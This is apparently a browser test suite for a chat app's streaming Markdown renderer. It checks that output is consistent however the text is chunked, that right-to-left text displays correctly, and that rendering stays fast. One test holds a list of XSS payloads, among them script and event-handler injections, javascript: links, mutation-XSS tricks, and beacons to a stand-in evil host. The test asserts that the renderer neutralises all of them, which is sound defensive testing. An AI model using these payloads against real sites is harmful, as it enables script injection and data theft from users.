/*
 * What the model writes on the page: Markdown, hostile or not, in any pieces, and a lot of it.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { answered, say } from './browser.mjs';
import { SAMPLE, fixture, open, page, pieces } from './page_setup.mjs';

describe('what the model writes', () => {
  test('the result is the same however the text was cut', async () => {
    const texts = [
      SAMPLE,
      '1. one\n\n   more of one\n\n2. two\n   ```js\n   let a = 1;\n   ```\n3. three\n\nEnd.',
      'Text\n```\nno language\n\n```\nafter ~~gone~~\n\n~~~html\n<b>x</b>\n```\n~~~\n',
      '- a\n- b\n\n\n- c\n\n* new list\n\n<details><summary>More</summary>hidden</details>\n\n[ref] and [^1]\n\n[ref]: https://example.org/x\n',
      '| a | b |\n|--|--|\n| 1 | <script>alert(1)</script> |\n\nunfinished ```',
      '# One\n## Two\n### Three\n\nSetext\n===\n\n- [ ] open\n- [x] done\n\n    indented code\n',
    ];
    await open();
    const shown = async (deltas) => {
      fixture.reply = () => ({ deltas, delay: deltas.length > 1 ? 1 : 0 });
      await page.click('#new-chat');
      await say(page, 'x');
      await answered(page);
      return page.innerHTML('.answer-text');
    };
    for (const text of texts) {
      const whole = await shown([text]);
      for (const size of [1, 7, 40]) assert.equal(await shown(pieces(text, size)), whole, `pieces of ${size} of ${text.slice(0, 30)}`);
    }
  });

  const PAYLOADS = [
    '<script>window.hacked = 1</script>', '<img src=x onerror="window.hacked = 1">', '<svg onload=window.hacked=1></svg>',
    '<svg><script>window.hacked=1</script></svg>', '[click](javascript:window.hacked=1)', '[click](&#106;avascript:window.hacked=1)',
    '![x](javascript:window.hacked=1)', '<a href="javascript:window.hacked=1">link</a>', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    '<form action=https://evil.invalid><button>Send</button></form>', '<body onload=window.hacked=1>', '<details open ontoggle=window.hacked=1>x</details>',
    '<b style="position:fixed;inset:0;background:red" class="icon-button" id="field">x</b>', '<input autofocus onfocus=window.hacked=1>',
    '`<img src=x onerror=window.hacked=1>`', '```html\n<script>window.hacked=1</script>\n```', '"><script>window.hacked=1</script>',
    '<base href="https://evil.invalid/">', '<meta http-equiv=refresh content="0;url=https://evil.invalid/">', '<link rel=stylesheet href=https://evil.invalid/x.css>',
    '![beacon](https://evil.invalid/pixel.png?secret)', '<img src="//evil.invalid/a.png">', '<video src=https://evil.invalid/v poster=https://evil.invalid/p></video>',
    '<template><script>window.hacked=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">', '[a](data:text/html,<script>1</script>)',
  ];

  for (const [how, size] of [['whole', 100_000], ['one character per frame', 1]]) {
    test(`nothing of it runs or calls home, ${how}`, async () => {
      fixture.reply = () => ({ deltas: pieces(PAYLOADS.join('\n\n'), size) });
      await open();
      const outside = [];
      page.on('request', (request) => {
        if (!request.url().startsWith(fixture.origin) && !request.url().startsWith('data:')) outside.push(request.url());
      });
      await say(page, 'attack');
      await answered(page);
      const found = await page.$eval('.answer-text', (root) => {
        const nodes = [...root.querySelectorAll('*')];
        return {
          bad: nodes.filter((node) => /^(script|iframe|form|input|svg|math|style|link|meta|base|video|object|embed|template)$/i.test(node.tagName)
            && !node.closest('.code-head')).map((node) => node.tagName),
          handlers: nodes.flatMap((node) => [...node.attributes]).filter((one) => /^on|^style$|^id$/i.test(one.name)).map((one) => one.name),
          links: [...root.querySelectorAll('a[href]')].map((link) => [new URL(link.href).protocol, link.target, link.rel]),
          pictures: [...root.querySelectorAll('img')].map((image) => image.src),
        };
      });
      assert.deepEqual(found.bad, []);
      assert.deepEqual(found.handlers, []);
      assert.deepEqual(found.pictures, []);
      assert.ok(found.links.length > 0);
      for (const link of found.links) assert.deepEqual(link, ['https:', '_blank', 'noopener noreferrer nofollow']);
      assert.equal(await page.evaluate(() => window.hacked), undefined);
      assert.deepEqual(outside, []);
      assert.match(await page.textContent('.answer-text'), /<script>window\.hacked = 1<\/script>/, 'a tag one asked for is shown as text');
      assert.deepEqual(page.problems, []);
    });
  }

  test('pictures from elsewhere load only when the site allows it', async () => {
    fixture.config.allow_remote_images = true;
    fixture.csp = fixture.csp.replace('data:', 'data: https:');
    fixture.reply = () => ({ deltas: ['![a cat](https://pictures.invalid/cat.png)'] });
    await open();
    await page.route('https://pictures.invalid/**', (route) => route.fulfill({ status: 204 }));
    await say(page, 'cat');
    await answered(page);
    assert.deepEqual(await page.$$eval('.answer-text img', (nodes) => nodes.map((node) => [node.alt, node.referrerPolicy])), [['a cat', 'no-referrer']]);
  });

  test('a paragraph in a right-to-left script is set from the right', async () => {
    fixture.reply = () => ({ deltas: [SAMPLE] });
    await open();
    await say(page, 'x');
    await answered(page);
    const last = page.locator('.answer-text > p').last();
    assert.equal(await last.evaluate((node) => getComputedStyle(node).direction), 'rtl');
    assert.equal(await page.locator('.answer-text > p').first().evaluate((node) => getComputedStyle(node).direction), 'ltr');
  });

  test('5,000 deltas: finished blocks are never touched again, and frames stay short', async (t) => {
    const paragraph = 'Some **bold** words and `code` that fill a line of text, again and again. ';
    const text = Array.from({ length: 60 }, (_, i) => (i % 6 === 5
      ? `\`\`\`js\n${'const value = compute(1, "two"); // three\n'.repeat(8)}\`\`\`\n\n`
      : i % 6 === 4 ? `${'- a point of a list\n'.repeat(12)}\n` : `${paragraph.repeat(5)}\n\n`)).join('');
    fixture.reply = () => ({ deltas: pieces(text, Math.ceil(text.length / 5000)), delay: 1 });
    await open({ size: 'phone' });
    const devtools = await page.context().newCDPSession(page);
    await devtools.send('Emulation.setCPUThrottlingRate', { rate: 4 });
    await page.evaluate(() => {
      window.frames = [];
      window.changes = 0;
      let before = performance.now();
      const tick = (now) => {
        window.frames.push(now - before);
        before = now;
        requestAnimationFrame(tick);
      };
      requestAnimationFrame(tick);
      new MutationObserver((records) => {
        if (records.some((record) => record.target.closest?.('.answer-text'))) window.changes += 1;
      }).observe(document.getElementById('log'), { childList: true, subtree: true });
    });
    page.setDefaultTimeout(60_000);
    await say(page, 'long');
    await page.waitForSelector('.message.assistant:last-child');
    await page.waitForFunction(() => document.querySelectorAll('.answer-text > *').length > 20);
    const early = await page.$$eval('.answer-text > *', (nodes) => {
      window.early = nodes.slice(0, 15);
      return window.early.length;
    });
    await answered(page);
    assert.equal(early, 15);
    assert.equal(await page.evaluate(() => window.early.every((node, i) => node === document.querySelectorAll('.answer-text > *')[i])), true);
    const [frames, changes] = await page.evaluate(() => [window.frames.sort((a, b) => a - b), window.changes]);
    const at = (share) => frames[Math.floor(frames.length * share)].toFixed(1);
    t.diagnostic(`${frames.length} frames, p50 ${at(0.5)} ms, p95 ${at(0.95)} ms, p99 ${at(0.99)} ms (4 times slowed down)`);
    assert.ok(changes <= frames.length + 1, `${changes} changes of the document in ${frames.length} frames`);
    assert.ok(Number(at(0.5)) < 60, `half of the frames took longer than ${at(0.5)} ms`);
  });
});
